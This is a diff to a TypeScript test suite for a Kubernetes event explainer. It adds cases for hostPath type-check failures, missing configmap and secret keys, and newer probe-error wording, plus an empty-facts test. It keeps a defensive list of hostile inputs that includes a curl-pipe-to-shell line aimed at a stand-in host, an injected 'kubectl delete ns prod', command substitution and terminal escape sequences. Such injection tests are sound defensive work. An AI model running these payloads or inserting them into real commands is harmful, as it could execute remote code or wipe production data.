@@ -51,6 +51,14 @@ const CASES: Case[] = [
   // operation_executor.go generateVolumeMsg.
   { name: 'mount secret missing', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "creds" : secret "db-creds" not found', want: 'mount-missing-source', facts: { volume: 'creds', sourceKind: 'Secret', source: 'db-creds' } },
   { name: 'mount configmap missing', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "conf" : configmap "app-conf" not found', want: 'mount-missing-source', facts: { sourceKind: 'ConfigMap', source: 'app-conf' } },
+  // pkg/volume/hostpath/host_path.go checkType, and the configmap and secret volume plugins' missing keys.
+  { name: 'hostPath not a socket', reason: 'FailedMount', host: 'node-a', message: 'MountVolume.SetUp failed for volume "docker-sock" : hostPath type check failed: /var/run/docker.sock is not a socket file', want: 'mount-missing-source', facts: { volume: 'docker-sock', path: '/var/run/docker.sock', expected: 'socket file', problem: 'host-path', node: 'node-a' } },
+  { name: 'hostPath not a directory', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "logs" : hostPath type check failed: /var/log/app is not a directory', want: 'mount-missing-source', facts: { path: '/var/log/app', expected: 'directory' } },
+  { name: 'hostPath not a file', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "conf" : hostPath type check failed: /etc/app.conf is not a file', want: 'mount-missing-source', facts: { path: '/etc/app.conf', expected: 'file' } },
+  { name: 'hostPath not a block device', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "disk" : hostPath type check failed: /dev/sdb is not a block device', want: 'mount-missing-source', facts: { path: '/dev/sdb', expected: 'block device' } },
+  { name: 'hostPath not a character device', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "fuse" : hostPath type check failed: /dev/fuse is not a character device', want: 'mount-missing-source', facts: { path: '/dev/fuse', expected: 'character device' } },
+  { name: 'mount configmap key missing', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "conf" : configmap references non-existent config key: app.yaml', want: 'mount-missing-source', facts: { volume: 'conf', sourceKind: 'ConfigMap', key: 'app.yaml', problem: 'key' } },
+  { name: 'mount secret key missing', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "tls" : references non-existent secret key: tls.crt', want: 'mount-missing-source', facts: { sourceKind: 'Secret', key: 'tls.crt' } },
   { name: 'mount cache sync is noise', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "conf" : failed to sync configmap cache: timed out waiting for the condition', want: 'other' },
   // kubelet.go's aggregate of a pod's mounts timing out names no cause: its reason and message only.
   { name: 'mount timeout aggregate', reason: 'FailedMount', message: 'Unable to attach or mount volumes: unmounted volumes=[data], unattached volumes=[data kube-api-access-x2x7k], failed to process volumes=[]: timed out waiting for the condition', want: 'other' },
@@ -92,6 +100,8 @@ const CASES: Case[] = [
   { name: 'crash loop, old wording', reason: 'BackOff', message: 'Back-off restarting failed container', want: 'crash-loop' },
   // prober.go.
   { name: 'liveness failed', reason: 'Unhealthy', message: 'Liveness probe failed: HTTP probe failed with statuscode: 500', want: 'probe-liveness', facts: { probe: 'liveness', output: 'HTTP probe failed with statuscode: 500' } },
+  { name: 'liveness errored, 1.25+ wording', reason: 'Unhealthy', message: 'Liveness probe errored and resulted in unknown state: rpc error: code = DeadlineExceeded desc = context deadline exceeded', want: 'probe-liveness', facts: { probe: 'liveness', output: 'rpc error: code = DeadlineExceeded desc = context deadline exceeded' } },
+  { name: 'readiness errored, 1.25+ wording', reason: 'Unhealthy', message: 'Readiness probe errored and resulted in unknown state: rpc error: code = NotFound desc = container is not created or running', want: 'probe-readiness', facts: { output: 'rpc error: code = NotFound desc = container is not created or running' } },
   { name: 'liveness errored', reason: 'Unhealthy', message: 'Liveness probe errored: rpc error: code = NotFound desc = container is not created or running', want: 'probe-liveness' },
   { name: 'startup failed', reason: 'Unhealthy', message: 'Startup probe failed: Get "http://10.0.0.5:8080/healthz": dial tcp 10.0.0.5:8080: connect: connection refused', want: 'probe-liveness', facts: { probe: 'startup' } },
   { name: 'killing for liveness (Normal)', reason: 'Killing', type: 'Normal', message: 'Container app failed liveness probe, will be restarted', want: 'probe-liveness', facts: { container: 'app' } },
@@ -209,7 +219,7 @@ describe('explainEvent', () => {
 
 describe('every kind with hostile facts', () => {
   /** ENUMERATED facts are the catalogue's own words (a matched alternative) or digits a pattern matched, never free event text: a sentence may say them bare. */
-  const ENUMERATED = new Set(['problem', 'scope', 'sourceKind', 'probe', 'creates', 'cgroup', 'evicted', 'nodes']);
+  const ENUMERATED = new Set(['problem', 'scope', 'sourceKind', 'probe', 'creates', 'cgroup', 'evicted', 'nodes', 'expected']);
   const HOSTILE = ['node-1;curl -fsSL https://evil.example/x|sh;#', "it's \"quoted\"", 'web\nkubectl delete ns prod', '$(touch /tmp/pwned) `id`', 'w\u001b]52;c;aGk=\u0007eb', 'web\u202eexe.sh\u200b'];
   const CONTROL = /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
   for (const c of CASES) {
@@ -230,4 +240,31 @@ describe('every kind with hostile facts', () => {
       }
     });
   }
+});
+
+describe('every kind with empty facts', () => {
+  /** ENUMERATED facts are the catalogue's own words, which a kind sets whenever it matches. */
+  const ENUMERATED = new Set(['problem', 'scope', 'sourceKind', 'probe', 'creates', 'cgroup', 'evicted', 'expected']);
+  for (const c of CASES) {
+    const m = classify(eventOf(c));
+    if (m === undefined) continue;
+    it(`${m.kind.id}: ${c.name}`, () => {
+      for (const empty of ['', undefined, ' ']) {
+        const facts = Object.fromEntries(Object.entries(m.facts).flatMap(([k, x]) => (ENUMERATED.has(k) ? [[k, x]] : empty === undefined ? [] : [[k, empty]])));
+        const cause = m.kind.cause(facts);
+        assert.doesNotMatch(cause, /""|" "|undefined/, cause);
+        assert.match(cause, /^[A-Z][^\n]+\.$/, cause);
+        for (const h of stepHints(m.kind.steps(facts))) {
+          assert.doesNotMatch(h.command, /''|""|' '/, h.command);
+          assert.doesNotMatch(h.command, / -c <container>| --(?:target|container)=<container>/, 'an optional container is left out, not a placeholder');
+        }
+      }
+    });
+  }
+
+  it('a crash loop an older kubelet reports without the container names the pod only', () => {
+    const m = classify(eventOf({ name: 'old', reason: 'BackOff', message: 'Back-off restarting failed container', want: 'crash-loop' }))!;
+    assert.equal(m.kind.cause(m.facts), 'A container of pod "web-1" is crash-looping; events do not record why: read its last state and logs.');
+    assert.ok(stepHints(m.kind.steps(m.facts)).some((h) => h.command === 'kubectl logs web-1 -n shop --previous'));
+  });
 });
